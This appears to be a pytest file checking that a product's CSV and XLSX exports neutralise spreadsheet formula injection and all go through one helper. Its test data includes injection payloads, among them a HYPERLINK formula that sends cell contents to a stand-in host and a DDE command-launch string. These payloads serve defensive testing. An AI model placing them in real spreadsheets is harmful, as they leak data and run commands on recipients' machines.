"""Issue 12.5: no CSV or XLSX the product writes holds a live formula; one helper writes them all."""
from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pandas as pd

from triangulate.core import exports

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1"]


def test_csv_cells_that_would_run_are_prefixed_and_numbers_are_left_alone():
    frame = pd.DataFrame({"text": HOSTILE + ["plain", "-3.5", "+44"], "n": range(8)})
    read_back = pd.read_csv(io.StringIO(exports.csv_text(frame)), dtype=str)
    assert list(read_back["text"][:5]) == ["'" + v for v in HOSTILE]
    assert list(read_back["text"][5:]) == ["plain", "-3.5", "+44"]


def test_xlsx_cells_stay_text_exactly_as_typed():
    frame = pd.DataFrame({"text": HOSTILE})
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes({"s": frame})))
    cells = [c for row in book["s"].iter_rows(min_row=2) for c in row]
    assert [c.value for c in cells] == HOSTILE and {c.data_type for c in cells} == {"s"}


def test_report_xlsx_and_data_needs_exports_hold_no_formula(demo_engine):
    from sqlmodel import select

    from schemas import DataNeed, Insight
    from tests.conftest import actor
    from triangulate.core import db
    from triangulate.joint import dataneeds, report
    with db.session_scope(demo_engine) as s:
        for insight in s.exec(select(Insight)):
            insight.text = '=HYPERLINK("http://x.example","' + insight.text[:20] + '")'
        need = s.exec(select(DataNeed)).first()
        ward = need.ward_code if need else "S13002971"
        if need:
            need.description = "=1+1"
    lead = actor("lead")
    for data in (report.export(demo_engine, lead, ward, "xlsx"), dataneeds.export(demo_engine, lead, "xlsx")):
        book = openpyxl.load_workbook(io.BytesIO(data))
        formulas = [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                    if c.data_type == "f"]
        assert formulas == []
    assert not re.search(r'(^|,)"?=', dataneeds.export(demo_engine, lead, "csv").decode(), re.M)


def test_no_module_writes_csv_or_xlsx_around_the_helper():
    # `practitioners.to_csv` (was `insight_import.to_csv`) is the insights' own wrapper of exports.csv_bytes
    writers = re.compile(r"(?<!insight_import)(?<!practitioners)\.to_csv\(|\.to_excel\(|csv\.writer\(|"
                         r"csv\.DictWriter\(|ExcelWriter\(")
    pending: set[str] = set()
    files = [p for folder in ("triangulate", "pages", "ui") for p in (ROOT / folder).rglob("*.py")]
    offenders = [str(p.relative_to(ROOT)) for p in files
                 if writers.search(p.read_text()) and p.name != "exports.py"
                 and str(p.relative_to(ROOT)) not in pending]
    offenders += [f for f in ("app.py",) if writers.search((ROOT / f).read_text())]
    assert offenders == []
